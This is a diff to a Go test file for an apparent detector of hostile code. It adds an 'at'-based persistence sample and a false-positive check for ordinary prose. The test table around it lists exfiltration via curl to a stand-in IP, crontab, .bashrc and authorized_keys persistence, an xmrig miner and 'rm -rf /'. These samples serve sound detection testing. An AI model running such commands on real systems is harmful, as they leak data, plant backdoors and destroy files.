@@ -36,6 +36,7 @@ func TestSource(t *testing.T) {
 		{"host-exfiltration", `curl http://192.0.2.1/$(whoami)`},
 		{"persistence", `(crontab -l; echo "* * * * * /tmp/x") | crontab -`},
 		{"persistence", `echo x >> ~/.bashrc`},
+		{"persistence", `echo /tmp/x | at now + 1 hour`},
 		{"persistence", `open("/root/.ssh/authorized_keys","a").write(k)`},
 		{"mining", `./xmrig -o stratum+tcp://192.0.2.1:3333`},
 		{"destruction", `rm -rf /`},
@@ -60,7 +61,8 @@ func TestSource(t *testing.T) {
 
 // Code that does nothing shows nothing, and the worst stands first.
 func TestSourceGrades(t *testing.T) {
-	for _, text := range []string{"", "true", "x = 1 + 2", "def forward(self, x):\n  return torch.relu(self.fc(x))", "sleep 1", "print('hello')"} {
+	for _, text := range []string{"", "true", "x = 1 + 2", "def forward(self, x):\n  return torch.relu(self.fc(x))", "sleep 1", "print('hello')",
+		"statistics are kept\nat training time, and that now\nat evaluation"} {
 		if got := patternNames(text); len(got) > 0 {
 			t.Errorf("%q: %q", text, got)
 		}
